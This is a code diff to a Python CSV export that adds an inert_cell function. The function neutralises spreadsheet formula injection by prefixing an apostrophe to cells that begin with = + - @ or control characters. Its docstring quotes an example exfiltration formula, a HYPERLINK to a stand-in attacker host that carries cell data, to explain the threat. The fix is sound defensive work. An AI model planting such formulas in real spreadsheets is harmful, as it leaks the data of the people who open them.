@@ -63,8 +63,29 @@ def _csv(rows: list[list[str]]) -> bytes:
     width = max((len(r) for r in rows), default=0)
     buffer = io.StringIO(newline="")
     writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerows(r + [""] * (width - len(r)) for r in rows)
+    writer.writerows([inert_cell(c) for c in r] + [""] * (width - len(r)) for r in rows)
     return buffer.getvalue().encode("utf-8-sig")
+
+
+# A plain number, which a spreadsheet reads as a number and never as a formula: "-12.5",
+# "+3", "-1,234", "-8.4%", "- 3" is not one.
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,\u00a0\u202f ]\d+)*(?:[.,]\d+)?\s?%?")
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_cell(text: str) -> str:
+    """*text* as a spreadsheet cell that is never evaluated: a cell starting with = + - @,
+    a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets
+    (``=HYPERLINK("http://evil.example/?"&B3)`` sends the sheet's data away when the file is
+    opened), so it gets a leading apostrophe, as OWASP's advice on CSV injection has it; a
+    plain number ("-12.5") is left as it is."""
+    if (
+        text.startswith(_FORMULA_START)
+        and not _PLAIN_NUMBER.fullmatch(text)
+        and text.strip("-+ ")  # a dash alone ("-", "--") marks an empty cell: no formula
+    ):
+        return "'" + text
+    return text
 
 
 def data_files(brief: Brief, stem: str, words: Words) -> list[DataFile]:
